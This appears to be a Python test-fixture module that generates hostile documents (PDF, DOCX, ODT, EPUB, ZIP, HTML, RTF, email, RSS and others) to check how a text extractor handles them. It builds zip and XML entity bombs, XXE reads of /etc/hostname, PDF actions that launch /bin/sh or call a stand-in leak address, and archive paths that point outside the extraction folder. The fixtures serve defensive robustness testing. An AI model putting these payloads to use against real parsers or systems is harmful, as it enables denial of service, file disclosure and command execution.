"""Files that somebody made to do harm, written on the spot: each by a function, small where it is small in the wild.

`LEAK` stands for an address that nothing may ask.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from formats import OFFICE, make_docx, make_epub, make_odt, make_pdf, paragraph, zipped

LEAK = "http://127.0.0.1:9/leak"
WORDS = "The mill turns with every tide, and it has ground wheat since 1790. "
DRAWN = b"BT /F1 12 Tf 72 700 Td (It turns.) Tj ET"
TEXT = r"text"
LIMIT = r"longer than [\d.]+ seconds|CPU time|MiB of memory|broke down"
SLOW = rf"{TEXT}|{LIMIT}"


def deflated(mebibytes: int, raw: bool = False) -> bytes:
    """Return what unpacks to so many MiB of letters, without packing them all; its checksum is wrong."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(b" " * 2**20) + packer.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    if raw:
        return block * mebibytes + end
    return b"\x78\xda" + block * mebibytes + end + b"\0\0\0\0"


def pdf(*objects: bytes, trailer: bytes = b"", root: int = 1) -> bytes:
    """Return a PDF of the given objects, numbered from 1, without a table: readers look for the objects themselves."""
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, content) for number, content in enumerate(objects, 1))
    return b"%%PDF-1.7\n%strailer\n<< /Root %d 0 R /Size %d %s >>\n%%%%EOF" % (body, root, len(objects) + 1, trailer)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
ONE_PAGE = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
FONT = b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R " + FONT + b" >>"


def stream(data: bytes, more: bytes = b"", length: int | None = None) -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data) if length is None else length, more, data)


def with_drawing(drawing: bytes) -> bytes:
    return pdf(CATALOG, ONE_PAGE, PAGE, drawing)


def action(what: bytes) -> bytes:
    """Return a PDF that wants something done when it is opened, and when its page is."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << %s >> /AA << /WC << %s >> >> >>" % (what, what)
    return pdf(catalog, ONE_PAGE, PAGE.replace(b"/Parent", b"/AA << /O << %s >> >> /Parent" % what), stream(DRAWN))


def linked_pages(count: int) -> bytes:
    kids = b" ".join(b"3 0 R" for _ in range(count))
    return pdf(CATALOG, b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count), PAGE, stream(DRAWN))


def looping_table() -> bytes:
    """Return a PDF whose table of places names itself as the one before it."""
    sound = make_pdf([["It turns."]])
    place = int(sound.rpartition(b"startxref\n")[2].split(b"\n")[0])
    return sound.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % place)


def drawing_itself(kind: bytes) -> bytes:
    """Return a PDF with a picture that draws itself."""
    resources = b"/Resources << /XObject << /X 5 0 R >> /Font << /F1 5 0 R >> >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R " + resources + b" >>"
    return pdf(
        CATALOG, ONE_PAGE, page, stream(b"/X Do BT /F1 12 Tf (aaaa) Tj ET"), kind.replace(b"RESOURCES", resources)
    )


FORM = stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] RESOURCES")
TYPE3 = (
    b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [9]"
    b" /Encoding << /Differences [97 /a] >> /CharProcs << /a 4 0 R >> RESOURCES >>"
)


def lying_zip(size: int, content: bytes) -> bytes:
    """Return a Word file that says of its text that it is `size` bytes long."""
    sound = zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": content})
    true = struct.pack("<I", len(content))
    return sound.replace(true, struct.pack("<I", size))


def bursting_zip(name: str, mebibytes: int) -> bytes:
    """Return a ZIP container with one part that unpacks to so many MiB."""
    data = deflated(mebibytes, raw=True)
    sizes = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, 0, len(data), mebibytes * 2**20, len(name), 0)
    local = b"PK\x03\x04" + sizes + name.encode() + data
    central = b"PK\x01\x02" + struct.pack("<H", 20) + sizes + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name.encode()
    return local + central + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)


def overlapping_zip(count: int) -> bytes:
    """Return an archive of many members that are all the same bytes of it."""
    sound = zipped({"a.txt": WORDS * 10_000})
    start, end = sound.index(b"PK\x01\x02"), sound.index(b"PK\x05\x06")
    entries = b"".join(sound[start:end].replace(b"a.txt", b"%05d" % number) for number in range(count))
    return sound[:start] + entries + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(entries), start, 0)


def member_zip(name: str, mode: int = 0o644, content: str = WORDS) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        member = zipfile.ZipInfo(name)
        member.external_attr = mode << 16
        archive.writestr(member, content)
    return buffer.getvalue()


def nested_zip(depth: int) -> bytes:
    data = zipped({"a.txt": WORDS})
    for _ in range(depth):
        data = zipped({"inner.zip": data})
    return data


LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefghi", "bcdefghij", strict=True))
    + "]>"
)
OUTSIDE = f'<!DOCTYPE x [<!ENTITY j SYSTEM "file:///etc/hostname"><!ENTITY k SYSTEM "{LEAK}">]>'


def with_doctype(doctype: str) -> bytes:
    sound = make_docx(paragraph("&j;"))
    with zipfile.ZipFile(io.BytesIO(sound)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["word/document.xml"] = doctype.encode() + parts["word/document.xml"]
    return zipped(parts)


def outside_docx() -> bytes:
    """Return a Word file whose template and picture are somewhere else."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="t" Type="{kind}/attachedTemplate" Target="{LEAK}/t.dotm" TargetMode="External"/>'
        f'<Relationship Id="p" Type="{kind}/image" Target="{LEAK}/p.png" TargetMode="External"/></Relationships>'
    )
    picture = '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata xmlns:r="r" r:id="p"/></v:shape></w:pict></w:r></w:p>'
    parts = {"word/_rels/document.xml.rels": relations.encode(), "word/_rels/settings.xml.rels": relations.encode()}
    return make_docx(paragraph(WORDS) + picture, parts=parts)


def mail(body: bytes, kind: bytes = b"multipart/mixed; boundary=b") -> bytes:
    head = b"From: a@example.org\r\nSubject: S\r\nMIME-Version: 1.0\r\nMessage-ID: <1@example.org>\r\n"
    return head + b"Content-Type: " + kind + b"\r\n\r\n" + body


def nested_mail(depth: int) -> bytes:
    data = b"Content-Type: text/plain\r\n\r\nIt turns."
    for number in range(depth):
        data = b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n%s\r\n--b%d--\r\n" % (
            number,
            number,
            data,
            number,
        )
    return b"From: a@example.org\r\nMIME-Version: 1.0\r\nMessage-ID: <1@example.org>\r\n" + data


def nested_messages(depth: int) -> bytes:
    data = mail(b"It turns.", b"text/plain")
    for _ in range(depth):
        data = mail(data, b"message/rfc822")
    return data


def page(body: str) -> bytes:
    return f"<!doctype html><html><head><title>T</title></head><body>{body}</body></html>".encode()


def feed(items: str, doctype: str = "") -> bytes:
    return f"<?xml version='1.0'?>{doctype}<rss version='2.0'><channel><title>F</title>{items}</channel></rss>".encode()


HIDDEN = "\u200b\u2060\ufeff\u202e\u2066\U000e0041\U000e007f"  # nothing to see

# name -> how it is made, and a pattern of what becomes of it: "text", or the reason that is given.
FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    # PDF
    "a drawing of 1 GiB.pdf": (
        lambda: with_drawing(stream(deflated(1024), b"/Filter /FlateDecode")),
        SLOW + "|no text",
    ),
    "a drawing of 1 GiB packed twice.pdf": (
        lambda: with_drawing(stream(zlib.compress(deflated(1024), 9), b"/Filter [/FlateDecode /FlateDecode]")),
        SLOW + "|no text",
    ),
    "twenty filters.pdf": (
        lambda: with_drawing(stream(zlib.compress(DRAWN), b"/Filter [" + b"/FlateDecode " * 20 + b"]")),
        "no text",
    ),
    "a million operators.pdf": (
        lambda: with_drawing(
            stream(zlib.compress(b"BT /F1 1 Tf " + b"(a) Tj 0 1 Td " * 1_000_000 + b"ET"), b"/Filter /FlateDecode")
        ),
        SLOW,
    ),
    "nested arrays.pdf": (
        lambda: pdf(CATALOG, ONE_PAGE, b"<< /Type /Page /X " + b"[" * 200_000 + b"]" * 200_000 + b" >>"),
        "no pages|no text|damaged",
    ),
    "a tree of pages that holds itself.pdf": (
        lambda: pdf(CATALOG, b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>", PAGE, stream(DRAWN)),
        "text|no text|damaged",
    ),
    "the catalogue as a page.pdf": (
        lambda: pdf(CATALOG, b"<< /Type /Pages /Kids [1 0 R] /Count 1 >>"),
        "no text|no pages|damaged",
    ),
    "an outline that goes round.pdf": (
        lambda: pdf(
            CATALOG.replace(b">>", b"/Outlines 5 0 R >>"),
            ONE_PAGE,
            PAGE,
            stream(DRAWN),
            b"<< /First 6 0 R /Last 6 0 R /Count 9 >>",
            b"<< /Title (a) /Parent 5 0 R /Next 6 0 R /First 5 0 R >>",
        ),
        TEXT,
    ),
    "a table that names itself.pdf": (looping_table, TEXT),
    "a table of a thousand million.pdf": (
        lambda: make_pdf([["It turns."]]).replace(b"xref\n0 ", b"xref\n0 999999999\n0 "),
        "text|damaged",
    ),
    "100,000 pages that are not there.pdf": (
        lambda: pdf(CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 100000 >>", PAGE, stream(DRAWN)),
        TEXT,
    ),
    "100,000 times the same page.pdf": (lambda: linked_pages(100_000), SLOW),
    "a script.pdf": (lambda: action(b"/S /JavaScript /JS (app.launchURL\\('%s'\\))" % LEAK.encode()), TEXT),
    "a program to start.pdf": (lambda: action(b"/S /Launch /F (/bin/sh) /P (-c id)"), TEXT),
    "an address to open.pdf": (lambda: action(b"/S /URI /URI (%s)" % LEAK.encode()), TEXT),
    "a form to send.pdf": (lambda: action(b"/S /SubmitForm /F (%s)" % LEAK.encode()), TEXT),
    "an unknown lock.pdf": (
        lambda: make_pdf([["It turns."]], encrypt="/Encrypt << /Filter /Foo /V 9 /R 9 >>"),
        "encrypted|damaged",
    ),
    "a head alone.pdf": (lambda: b"%PDF-1.7\n", "damaged"),
    "the first half.pdf": (lambda: make_pdf([["It turns."]] * 9)[:1500], "text|damaged|no text|no pages"),
    "a stream that says it is endless.pdf": (
        lambda: with_drawing(stream(DRAWN, length=10**15)),
        "text|no text|damaged",
    ),
    "a form that draws itself.pdf": (lambda: drawing_itself(FORM), "text|no text"),
    "a letter that draws itself.pdf": (lambda: drawing_itself(TYPE3), SLOW + "|no text"),
    "a page as wide as the world.pdf": (
        lambda: pdf(CATALOG, ONE_PAGE, PAGE.replace(b"612 792", b"1e38 -1e38"), stream(DRAWN)),
        "text|no text",
    ),
    "a page whose parent is itself.pdf": (
        lambda: pdf(
            CATALOG, ONE_PAGE, PAGE.replace(b"/Parent 2 0 R", b"/Parent 3 0 R").replace(FONT, b""), stream(DRAWN)
        ),
        "text|no text",
    ),
    "objects in objects in themselves.pdf": (
        lambda: pdf(stream(b"1 0 2 20 " + CATALOG, b"/Type /ObjStm /N 2 /First 9 /Extends 1 0 R"), ONE_PAGE, PAGE),
        "damaged|no pages",
    ),
    "a map of letters on this disk.pdf": (
        lambda: pdf(
            CATALOG,
            ONE_PAGE,
            PAGE.replace(b"/Subtype /Type1", b"/Subtype /Type0 /Encoding /..#2f..#2fetc#2fpasswd"),
            stream(DRAWN),
        ),
        "text|no text",
    ),
    # Word, OpenDocument, EPUB
    "a part of 1 GiB.docx": (lambda: bursting_zip("word/document.xml", 1024), "1,024 MiB|200 times"),
    "a part of 400 MiB.docx": (lambda: bursting_zip("word/document.xml", 400), "200 times"),
    "three million paragraphs.docx": (lambda: make_docx("<w:p/>" * 3_000_000), SLOW + "|no text|200 times"),
    "a billion laughs.docx": (lambda: with_doctype(LAUGHS), "XML entities"),
    "what stands elsewhere.docx": (lambda: with_doctype(OUTSIDE), "XML entities"),
    "a template and a picture elsewhere.docx": (outside_docx, TEXT),
    "nested tables.docx": (
        lambda: make_docx("<w:tbl><w:tr><w:tc>" * 20_000 + paragraph("It turns.") + "</w:tc></w:tr></w:tbl>" * 20_000),
        SLOW + "|damaged",
    ),
    "10,002 parts.docx": (
        lambda: zipped({"word/document.xml": "<x/>"} | {f"word/{number}": "" for number in range(10_001)}),
        "10,002 parts",
    ),
    "a part that is longer than it says.docx": (lambda: lying_zip(10, b"<x>" + b"a" * 5_000_000), "damaged"),
    "no text.docx": (lambda: zipped({"[Content_Types].xml": "<Types/>", "word/styles.xml": "<x/>"}), "damaged"),
    "the first half.docx": (lambda: make_docx(paragraph(WORDS) * 500)[:900], "damaged"),
    "two thousand million spaces.odt": (
        lambda: make_odt('<text:p>It<text:s text:c="2000000000"/>turns.</text:p>'),
        TEXT,
    ),
    "a cell a thousand million times.odt": (
        lambda: make_odt(
            '<table:table><table:table-row table:number-rows-repeated="1000000000">'
            '<table:table-cell table:number-columns-repeated="1000000000"><text:p>It turns.</text:p></table:table-cell>'
            "</table:table-row></table:table>"
        ),
        TEXT,
    ),
    "nested spans.odt": (
        lambda: make_odt(f"<text:p>{'<text:span>' * 40_000}It turns.{'</text:span>' * 40_000}</text:p>"),
        "text|damaged",
    ),
    "a billion laughs.odt": (
        lambda: zipped(
            {
                "mimetype": "application/vnd.oasis.opendocument.text",
                "content.xml": f"{LAUGHS}<office:document-content {OFFICE}>&j;</office:document-content>",
            }
        ),
        "XML entities",
    ),
    "chapters outside of the book.epub": (
        lambda: make_epub({"a.xhtml": f"<p>{WORDS}</p>", "../../../etc/passwd": "<p>x</p>"}),
        TEXT,
    ),
    "a chapter elsewhere.epub": (
        lambda: make_epub({"a.xhtml": f"<p>{WORDS}</p><img src='{LEAK}'/><iframe src='{LEAK}'/>"}),
        TEXT,
    ),
    "a book that is its own contents.epub": (
        lambda: zipped(
            {
                "mimetype": "application/epub+zip",
                "META-INF/container.xml": "<container><rootfiles><rootfile full-path='META-INF/container.xml'/></rootfiles></container>",
            }
        ),
        "no text",
    ),
    # ZIP
    "zip in zip in zip.zip": (lambda: nested_zip(6), "archive in an archive|no article"),
    "a name that leads out.zip": (lambda: member_zip("../../etc/cron.d/x.txt"), "leads out"),
    "an absolute name.zip": (lambda: member_zip("/etc/x.txt"), "leads out"),
    "a name of another disk.zip": (lambda: member_zip("C:\\x.txt"), "leads out"),
    "a link.zip": (lambda: member_zip("passwd.txt", 0o120777, "/etc/passwd"), "It is a link"),
    "a member of 1 GiB.zip": (lambda: bursting_zip("a.txt", 1024), "1,024 MiB|200 times"),
    "one member 2,000 times.zip": (lambda: overlapping_zip(2000), "MiB|damaged|text"),
    "a table of 10,001.zip": (lambda: zipped({f"{number}.txt": "" for number in range(10_001)}), "10,001 parts"),
    "too short a table.zip": (lambda: zipped({"a.txt": WORDS})[:-30], "damaged"),
    # HTML
    "300,000 attributes.html": (
        lambda: page(f"<p {' '.join(f'a{number}=1' for number in range(300_000))}>It turns.</p>"),
        SLOW,
    ),
    "half a million paragraphs.html": (lambda: page("<p>It turns.</p>" * 500_000), SLOW),
    "nested blocks.html": (lambda: page("<div>" * 200_000 + "It turns."), SLOW),
    "nested tables.html": (lambda: page("<table><tr><td>" * 20_000 + "It turns."), SLOW),
    "a script without an end.html": (lambda: page(f"<p>{WORDS}</p><script>" + "x=1;" * 1_000_000), "text|no text"),
    "comments in comments.html": (lambda: page(f"<p>{WORDS}</p>" + "<!--" * 500_000), "text|no text"),
    "a million entities.html": (lambda: page(f"<p>{WORDS}{'&amp;' * 1_000_000}</p>"), SLOW),
    "much to load.html": (
        lambda: page(
            f"<base href='{LEAK}/'><meta http-equiv=refresh content='0;url={LEAK}'><link rel=stylesheet href='{LEAK}'>"
            f"<script src='{LEAK}'></script><iframe src='{LEAK}'></iframe><img src='{LEAK}'><p>{WORDS * 5}</p>"
        ),
        TEXT,
    ),
    # text
    "nothing.txt": (lambda: b"", "It is empty"),
    "blanks.txt": (lambda: b" \n\t\r\n" * 1000, "no text"),
    "wide without a mark.txt": (lambda: WORDS.encode("utf-16-le"), TEXT),
    "zeros.txt": (lambda: b"\x00" * 5000, "binary"),
    "zeros between words.txt": (lambda: WORDS.encode().replace(b" ", b"\x00"), "NUL bytes|binary"),
    "characters that hide.txt": (lambda: HIDDEN.join(WORDS).encode(), TEXT),
    "nothing but what hides.txt": (lambda: (HIDDEN * 500).encode(), "no text"),
    "a line of 20 million.txt": (lambda: b"word " * 4_000_000, TEXT),
    "a million marks.md": (lambda: b"#" * 1_000_000 + b" It turns.\n" + b"[" * 100_000 + b"(" * 100_000, TEXT),
    "a picture.txt": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(500), "PNG image|no text"),
    "a program.docx": (lambda: b"\x7fELF" + bytes(500), "executable"),
    "a PDF called text.txt": (lambda: make_pdf([["It turns."]]), TEXT),
    # the others
    "nested groups.rtf": (lambda: b"{\\rtf1 It turns." + b"{" * 200_000, "text|damaged|nested"),
    "binary without an end.rtf": (lambda: b"{\\rtf1 It turns. \\bin2147483647 abc}", TEXT),
    "a number too large.rtf": (
        lambda: b"{\\rtf1\\ansicpg99999999999 It \\u99999999999?turns.\\fs" + b"9" * 5000 + b"}",
        TEXT,
    ),
    "parts in parts.eml": (lambda: nested_mail(500), "text|no text|nested"),
    "messages in messages.eml": (lambda: nested_messages(300), "text|no text|nested"),
    "a boundary that never comes.eml": (lambda: mail(b"--c\r\n\r\nIt turns."), "text|no text"),
    "a header without an end.eml": (
        lambda: mail(WORDS.encode(), b"text/plain;" + b"\r\n x=y;" * 100_000),
        "text|no text",
    ),
    "a thousand attachments.eml": (
        lambda: mail(
            b"--b\r\nContent-Type: application/pdf; name=a.pdf\r\n\r\nx\r\n" * 1_000 + b"--b\r\n\r\nIt turns.\r\n--b--"
        ),
        TEXT,
    ),
    "a million columns.csv": (lambda: b"a,b\n" + b"1," * 1_000_000, SLOW),
    "a quote without an end.csv": (lambda: b'a,b\n1,"' + b"x,\n" * 1_000_000, SLOW),
    "brackets without an end.jsonl": (lambda: b'{"text": ' + b"[" * 200_000, "not valid JSON"),
    "a number of a million digits.jsonl": (
        lambda: b'{"text": "It turns.", "n": ' + b"9" * 1_000_000 + b"}",
        "text|not valid JSON",
    ),
    "a billion laughs.rss": (lambda: feed("<item><title>&j;</title></item>", LAUGHS), TEXT),
    "what stands elsewhere.rss": (lambda: feed("<item><title>&j;&k;</title></item>", OUTSIDE), TEXT),
    "a hundred thousand entries.rss": (
        lambda: feed("<item><description>It turns.</description></item>" * 100_000),
        SLOW,
    ),
    "times that run backwards.srt": (lambda: b"1\n99:99:99,999 --> 00:00:00,000\nIt turns.\n\n" * 100_000, SLOW),
}
